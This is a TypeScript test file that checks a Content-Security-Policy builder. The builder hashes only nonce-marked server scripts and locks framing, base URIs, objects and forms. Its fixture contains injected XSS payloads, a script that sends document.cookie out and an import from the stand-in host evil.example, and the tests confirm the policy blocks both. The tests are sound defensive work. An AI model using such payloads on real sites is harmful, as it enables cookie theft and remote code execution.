import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, renderMarker, scriptHash, serverWrittenScripts } from "./content-security-policy.server";

const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;

describe("the Content-Security-Policy of a document", () => {
  const marker = renderMarker();
  const mark = ` nonce="${marker}"`;
  // An article's body that got past the sanitizer, inside a document the server rendered.
  const injected = "<script>fetch('/steal?c='+document.cookie)</script><script type=\"module\">import('//evil.example/x.js')</script>";
  const rendered = [
    "<html><head>",
    '<script type="application/ld+json">{"@type":"Product","name":"Sauna é"}</script>',
    `<link rel="modulepreload" href="/assets/entry.js"${mark}/>`,
    "</head><body>",
    `<article><div class="article-prose">${injected}<p>Text</p></div></article>`,
    `<script${mark}>window.__reactRouterContext = {"x":"<\\/script>"};</script>`,
    `<script${mark} type="module" async="">import "/assets/manifest.js";</script>`,
    '<script src="/assets/app.js"></script>',
    `<script${mark}>window.__reactRouterContext = {"x":"<\\/script>"};</script>`,
    `<script${mark} type="application/ld+json">{"data":1}</script>`,
    "</body></html>",
  ].join("");

  it("hashes the inline scripts the server wrote (those carrying the render's marker), once each", () => {
    expect(serverWrittenScripts(rendered, marker).hashes).toEqual([
      sha('window.__reactRouterContext = {"x":"<\\/script>"};'),
      sha('import "/assets/manifest.js";'),
    ]);
    expect(serverWrittenScripts("<p>no scripts</p>", marker).hashes).toEqual([]);
  });

  it("does not allow a script that reached the page any other way, and takes the marker out of the page", () => {
    const { html, hashes } = serverWrittenScripts(rendered, marker);
    expect(hashes).not.toContain(scriptHash("fetch('/steal?c='+document.cookie)"));
    expect(hashes).not.toContain(scriptHash("import('//evil.example/x.js')"));
    const policy = contentSecurityPolicy(hashes, { https: true });
    expect(policy).not.toContain(scriptHash("fetch('/steal?c='+document.cookie)"));
    expect(html).not.toContain(marker);
    expect(html).not.toContain("nonce");
    expect(html).toContain(injected);
    expect(html).toContain('<script type="module" async="">import "/assets/manifest.js";</script>');
    // Another render's marker (or a guess) allows nothing.
    expect(serverWrittenScripts(rendered, renderMarker()).hashes).toEqual([]);
  });

  it("allows scripts only from this site and the hashes, and locks framing, base, objects and forms", () => {
    const policy = contentSecurityPolicy(["'sha256-abc='"], { https: false });
    const directives = Object.fromEntries(policy.split("; ").map((part) => [part.split(" ")[0], part.split(" ").slice(1).join(" ")]));
    expect(directives["script-src"]).toBe("'self' 'sha256-abc='");
    expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(policy).not.toMatch(/unsafe-eval/);
    expect(directives).toMatchObject({
      "default-src": "'self'",
      "frame-ancestors": "'self'",
      "base-uri": "'none'",
      "object-src": "'none'",
      "form-action": "'self'",
    });
    expect(policy).not.toContain("upgrade-insecure-requests");
    expect(contentSecurityPolicy([], { https: true })).toContain("upgrade-insecure-requests");
  });
});
